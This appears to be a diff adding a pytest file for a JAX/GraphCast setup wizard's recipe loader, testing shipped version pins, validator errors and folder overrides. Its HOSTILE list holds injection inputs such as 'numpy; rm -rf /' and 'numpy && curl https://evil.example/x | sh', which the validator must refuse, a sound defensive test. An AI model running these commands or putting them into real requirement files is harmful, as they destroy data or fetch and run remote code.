@@ -1,0 +1,264 @@
+"""The recipe format: the three shipped recipes, the validator on malformed and hostile files, overrides."""
+
+from __future__ import annotations
+
+import re
+from pathlib import Path
+
+import pytest
+
+from wizard import paths
+from wizard.errors import UserError
+from wizard.recipes import get_recipe, load_recipe_file, load_recipes, parse_recipe
+
+BUILTIN = paths.builtin_recipes_dir()
+CPU_TEXT = (BUILTIN / "jax0.4.23-cpu.yaml").read_text()
+GC_REV = "97d1ad50b0b7af4aaed7790167dffa769bae1f2c"
+COMPANIONS = {
+    "jax": "0.4.23", "numpy": "1.26.4", "scipy": "1.11.4", "ml-dtypes": "0.2.0", "dm-haiku": "0.0.11",
+    "flax": "0.8.4", "chex": "0.1.86", "optax": "0.2.2", "jraph": "0.0.6.dev0", "dm-tree": "0.1.8",
+    "xarray": "2024.3.0", "pandas": "2.2.2", "trimesh": "4.0.10", "rtree": "1.3.0",
+}
+CUDA12_SET = {
+    "jaxlib": "0.4.23+cuda12.cudnn89", "nvidia-cudnn-cu12": "8.9.7.29", "nvidia-cublas-cu12": "12.2.5.6",
+    "nvidia-cuda-cupti-cu12": "12.2.142", "nvidia-cuda-nvcc-cu12": "12.2.140",
+    "nvidia-cuda-runtime-cu12": "12.2.140", "nvidia-cuda-nvrtc-cu12": "12.2.140",
+    "nvidia-cufft-cu12": "11.0.8.103", "nvidia-cusolver-cu12": "11.5.2.141",
+    "nvidia-cusparse-cu12": "12.1.2.141", "nvidia-nvjitlink-cu12": "12.2.140", "nvidia-nccl-cu12": "2.18.3",
+}
+CUDA11_SET = {
+    "jaxlib": "0.4.23+cuda11.cudnn86", "nvidia-cudnn-cu11": "8.6.0.163", "nvidia-cublas-cu11": "11.11.3.6",
+    "nvidia-cuda-cupti-cu11": "11.8.87", "nvidia-cuda-nvcc-cu11": "11.8.89",
+    "nvidia-cuda-runtime-cu11": "11.8.89", "nvidia-cuda-nvrtc-cu11": "11.8.89",
+    "nvidia-cufft-cu11": "10.9.0.58", "nvidia-cusolver-cu11": "11.4.1.48", "nvidia-cusparse-cu11": "11.7.5.86",
+}
+JAX_PAGE = "https://storage.googleapis.com/jax-releases/jax_cuda_releases.html"
+
+
+# ---------------------------------------------------------------------------------------------- shipped
+
+
+def test_exactly_the_three_builtin_recipes():
+    assert sorted(load_recipes()) == ["jax0.4.23-cpu", "jax0.4.23-cuda11-cudnn86", "jax0.4.23-cuda12-cudnn89"]
+
+
+@pytest.mark.parametrize("recipe_id, backend, cuda_set", [
+    ("jax0.4.23-cuda12-cudnn89", "gpu", CUDA12_SET),
+    ("jax0.4.23-cuda11-cudnn86", "gpu", CUDA11_SET),
+    ("jax0.4.23-cpu", "cpu", {"jaxlib": "0.4.23"}),
+])
+def test_shipped_recipe_pins(recipe_id, backend, cuda_set):
+    recipe = get_recipe(recipe_id)
+    assert recipe.backend == backend
+    assert recipe.pins == {**recipe.pins, **COMPANIONS, **cuda_set}, "a pin differs from the fact sheet"
+    # Every requirement is an exact pin: nothing floats to a version nobody tested.
+    assert len(recipe.pins) == len(recipe.requirements)
+    assert recipe.pins["ipykernel"].startswith("6.")
+    assert recipe.graphcast.revision == GC_REV
+    assert recipe.graphcast.source.endswith(f"github.com/google-deepmind/graphcast@{GC_REV}")
+    assert recipe.graphcast.version == "0.1.1"
+    assert recipe.machine.python == ">=3.10,<3.12"
+    assert recipe.disk_gib > 0
+    if backend == "gpu":
+        assert recipe.find_links == (JAX_PAGE,)
+        assert recipe.runtime_env == {"XLA_PYTHON_CLIENT_PREALLOCATE": "false"}
+        assert recipe.machine.compute_capability_min == "5.2"
+        assert not any(name.startswith(("jax-cuda", "jax_cuda")) for name in recipe.pins)
+    else:
+        assert recipe.find_links == ()
+        assert recipe.runtime_env == {"JAX_PLATFORMS": "cpu"}
+        assert not any(name.startswith("nvidia-") for name in recipe.pins)
+
+
+def test_driver_thresholds_of_the_gpu_recipes():
+    cu12 = get_recipe("jax0.4.23-cuda12-cudnn89").machine
+    assert (cu12.cuda_major, cu12.driver_cuda_min, cu12.driver_min, cu12.driver_warn_below) == (
+        12, "12.0", "525.60.13", "535.54.03")
+    assert [(r.compute_capability_min, r.driver_min) for r in cu12.gpu_driver_rules] == [("9.0", "535.54.03")]
+    cu11 = get_recipe("jax0.4.23-cuda11-cudnn86").machine
+    assert (cu11.cuda_major, cu11.driver_min) == (11, "450.80.02")
+
+
+def test_cuda11_recipe_explains_why_not_the_extra():
+    recipe = get_recipe("jax0.4.23-cuda11-cudnn86")
+    assert any("cuda11_pip" in n and ">=8.8" in n for n in recipe.notes)
+
+
+# ---------------------------------------------------------------------------------------------- malformed
+
+
+def _line_of(text: str, needle: str) -> int:
+    for number, line in enumerate(text.splitlines(), 1):
+        if needle in line:
+            return number
+    raise AssertionError(f"{needle!r} not in text")
+
+
+def _write(folder: Path, text: str, name: str = "jax0.4.23-cpu.yaml") -> Path:
+    folder.mkdir(parents=True, exist_ok=True)
+    path = folder / name
+    path.write_text(text)
+    return path
+
+
+def _replace(old: str, new: str) -> str:
+    assert old in CPU_TEXT, old
+    return CPU_TEXT.replace(old, new, 1)
+
+
+_REQ_BLOCK = re.compile(r"^requirements:\n(  .*\n)+", re.M)
+
+# (case id, modified text, the line's marker in the text, words the message must hold)
+MALFORMED = [
+    ("bad-yaml", _replace("  - numpy==1.26.4\n", "  - numpy==1.26.4\n   oops: [\n"), "oops: [", "not valid YAML"),
+    ("tab-indent", _replace("  - scipy==1.11.4", "\t- scipy==1.11.4"), "\t- scipy", "not valid YAML"),
+    ("unknown-top-key", _replace("disk_gib: 2", "disk_gib: 2\nrequirments: []"), "requirments", "unknown key 'requirments'"),
+    ("unknown-machine-key", _replace("  python: \">=3.10,<3.12\"", "  python: \">=3.10,<3.12\"\n  gpu: yes"),
+     "  gpu: yes", "unknown key 'gpu' in machine"),
+    ("duplicate-key", _replace("title: JAX 0.4.23 on the CPU", "title: JAX 0.4.23 on the CPU\ntitle: again"),
+     "title: again", "appears twice"),
+    ("disk-not-number", _replace("disk_gib: 2", "disk_gib: lots"), "disk_gib: lots", "must be a number"),
+    ("title-list", _replace("title: JAX 0.4.23 on the CPU", "title: [a, b]"), "title: [a, b]", "must be a string"),
+    ("requirements-string", _REQ_BLOCK.sub("requirements: jax\n", CPU_TEXT), "requirements: jax", "must be a list"),
+    ("requirements-empty", _REQ_BLOCK.sub("requirements: []\n", CPU_TEXT), "requirements: []", "at least one package"),
+    ("env-unquoted-bool", _replace("  JAX_PLATFORMS: cpu", "  JAX_PLATFORMS: cpu\n  XLA_PYTHON_CLIENT_PREALLOCATE: false"),
+     "XLA_PYTHON_CLIENT_PREALLOCATE", "quoted string"),
+    ("version-unquoted", _replace('glibc_min: "2.17"', "glibc_min: 2.17"), "glibc_min", "quoted string"),
+    ("schema-2", _replace("schema: 1", "schema: 2"), "schema: 2", "schema 2"),
+    ("backend-tpu", _replace("backend: cpu", "backend: tpu"), "backend: tpu", "backend 'tpu'"),
+    ("python-spec", _replace('python: ">=3.10,<3.12"', 'python: "three point ten"'), "three point ten",
+     "not a version specifier"),
+    ("find-links-http", _replace("find_links: []", "find_links: [http://mirror.example/wheels]"), "find_links",
+     "only https:// and file://"),
+    ("index-path", _replace("extra_index_urls: []", "extra_index_urls: [/srv/index]"), "extra_index_urls",
+     "must be an https:// or file:// URL"),
+    ("env-ld-library-path", _replace("  JAX_PLATFORMS: cpu", "  JAX_PLATFORMS: cpu\n  LD_LIBRARY_PATH: /usr/local/cuda/lib64"),
+     "LD_LIBRARY_PATH", "may not set LD_LIBRARY_PATH"),
+    ("prompt-bad-regex", _replace("prompts: []", "prompts:\n  - pattern: 'Proceed ([y'\n    answer: y"),
+     "pattern: 'Proceed", "not a valid regular expression"),
+    ("cpu-with-cuda", _replace('  python: ">=3.10,<3.12"', '  python: ">=3.10,<3.12"\n  cuda_major: 12'),
+     "cuda_major: 12", "only makes sense for a gpu recipe"),
+    ("graphcast-revision", _replace(f"revision: {GC_REV}", "revision: main"), "revision: main", "not a git commit"),
+    ("graphcast-ssh", _replace("source: graphcast @ git+https://", "source: graphcast @ git+ssh://"),
+     "source: graphcast", "must use git+https://"),
+    ("missing-key", CPU_TEXT.replace("disk_gib: 2\n", ""), "schema: 1", "lacks the required key 'disk_gib'"),
+    ("duplicate-requirement", _replace("  - scipy==1.11.4", "  - scipy==1.11.4\n  - SciPy==1.13.1"),
+     "SciPy==1.13.1", "a second time"),
+]
+
+HOSTILE = [
+    "numpy; rm -rf /",
+    "numpy && curl https://evil.example/x | sh",
+    "numpy`reboot`",
+    "numpy==$(curl evil.example)",
+    "numpy | sh",
+    "--index-url=https://evil.example/simple",
+    "numpy @ https://evil.example/numpy-1.26.4-py3-none-any.whl",
+    "numpy>=1 \\",
+    "numpy==1.26.4 --no-deps",
+]
+
+
+@pytest.mark.parametrize("case, text, marker, words", MALFORMED, ids=[c[0] for c in MALFORMED])
+def test_malformed_recipe_is_one_clear_error_with_the_line(tmp_path, case, text, marker, words):
+    path = _write(tmp_path, text)
+    with pytest.raises(UserError) as info:
+        load_recipe_file(path)
+    message = str(info.value)
+    assert str(path) in message
+    assert f"line {_line_of(text, marker)}:" in message, message
+    assert words in message
+    assert "\n" not in message and "Traceback" not in message
+
+
+@pytest.mark.parametrize("requirement", HOSTILE)
+def test_hostile_requirement_is_refused_with_its_line(tmp_path, requirement):
+    quoted = "'" + requirement.replace("'", "''") + "'"
+    text = _replace("  - numpy==1.26.4", f"  - {quoted}")
+    path = _write(tmp_path, text)
+    with pytest.raises(UserError) as info:
+        load_recipe_file(path)
+    assert f"{path}, line {_line_of(text, quoted)}:" in str(info.value)
+    assert "requirement" in str(info.value)
+
+
+def test_valid_markers_and_ranges_are_accepted(tmp_path):
+    text = _replace("  - numpy==1.26.4", "  - 'numpy>=1.26,<2; python_version < \"3.12\"'\n  - tomli!=2.0.0")
+    recipe = load_recipe_file(_write(tmp_path, text))
+    assert 'numpy>=1.26,<2; python_version < "3.12"' in recipe.requirements
+    assert "numpy" not in recipe.pins  # a range is not a pin
+
+
+def test_id_must_match_file_name(tmp_path):
+    path = _write(tmp_path, CPU_TEXT, name="my-cpu.yaml")
+    with pytest.raises(UserError, match=r"id 'jax0.4.23-cpu' does not match the file name 'my-cpu.yaml'"):
+        load_recipe_file(path)
+
+
+@pytest.mark.parametrize("text, words", [
+    ("", "the file is empty"),
+    ("- just\n- a list\n", "must be a mapping"),
+    ("id: [unclosed\n", "not valid YAML"),
+])
+def test_degenerate_files(tmp_path, text, words):
+    with pytest.raises(UserError, match=words):
+        parse_recipe(text, tmp_path / "x.yaml")
+
+
+def test_binary_file_is_refused(tmp_path):
+    path = tmp_path / "jax0.4.23-cpu.yaml"
+    path.write_bytes(b"id: \xff\xfe\x00junk")
+    with pytest.raises(UserError, match="not UTF-8"):
+        load_recipe_file(path)
+
+
+def test_relative_find_links_are_relative_to_the_recipe_file(tmp_path):
+    text = _replace("find_links: []", "find_links: [wheels, 'file:///srv/wheels']")
+    recipe = load_recipe_file(_write(tmp_path / "admin", text))
+    assert recipe.find_links == (str(tmp_path / "admin" / "wheels"), "file:///srv/wheels")
+
+
+# ---------------------------------------------------------------------------------------------- folders
+
+
+def test_later_folders_override_by_id_and_add_new_ones(tmp_path, isolated_state):
+    user_dir = paths.user_recipes_dir()
+    _write(user_dir, _replace("title: JAX 0.4.23 on the CPU", "title: From the user folder"))
+    assert load_recipes()["jax0.4.23-cpu"].title == "From the user folder"
+
+    extra = tmp_path / "extra"
+    _write(extra, _replace("title: JAX 0.4.23 on the CPU", "title: From --recipes-dir"))
+    _write(extra, CPU_TEXT.replace("id: jax0.4.23-cpu", "id: lab-cpu"), name="lab-cpu.yaml")
+    (extra / "README.txt").write_text("not a recipe")
+    (extra / ".hidden.yaml").write_text("garbage: [")
+    recipes = load_recipes([str(extra)])
+    assert recipes["jax0.4.23-cpu"].title == "From --recipes-dir"
+    assert recipes["jax0.4.23-cpu"].path == extra / "jax0.4.23-cpu.yaml"
+    assert "lab-cpu" in recipes and len(recipes) == 4
+
+
+def test_a_malformed_file_in_any_folder_stops_loading(tmp_path):
+    _write(tmp_path, "id: x\nid: y\n", name="x.yaml")
+    with pytest.raises(UserError, match=r"x\.yaml, line 2: key 'id' appears twice"):
+        load_recipes([str(tmp_path)])
+
+
+def test_missing_recipes_dir_is_bad_input(tmp_path):
+    with pytest.raises(UserError, match="does not exist"):
+        load_recipes([str(tmp_path / "nope")])
+
+
+def test_unknown_recipe_lists_the_known_ones():
+    with pytest.raises(UserError) as info:
+        get_recipe("jax0.4.99-tpu")
+    message = str(info.value)
+    assert "jax0.4.99-tpu" in message
+    for known in ("jax0.4.23-cpu", "jax0.4.23-cuda11-cudnn86", "jax0.4.23-cuda12-cudnn89"):
+        assert known in message
+
+
+def test_to_dict_round_trips_the_fields():
+    data = get_recipe("jax0.4.23-cuda12-cudnn89").to_dict()
+    assert data["id"] == "jax0.4.23-cuda12-cudnn89"
+    assert data["machine"]["driver_min"] == "525.60.13"
+    assert "nvidia-cudnn-cu12==8.9.7.29" in data["requirements"]
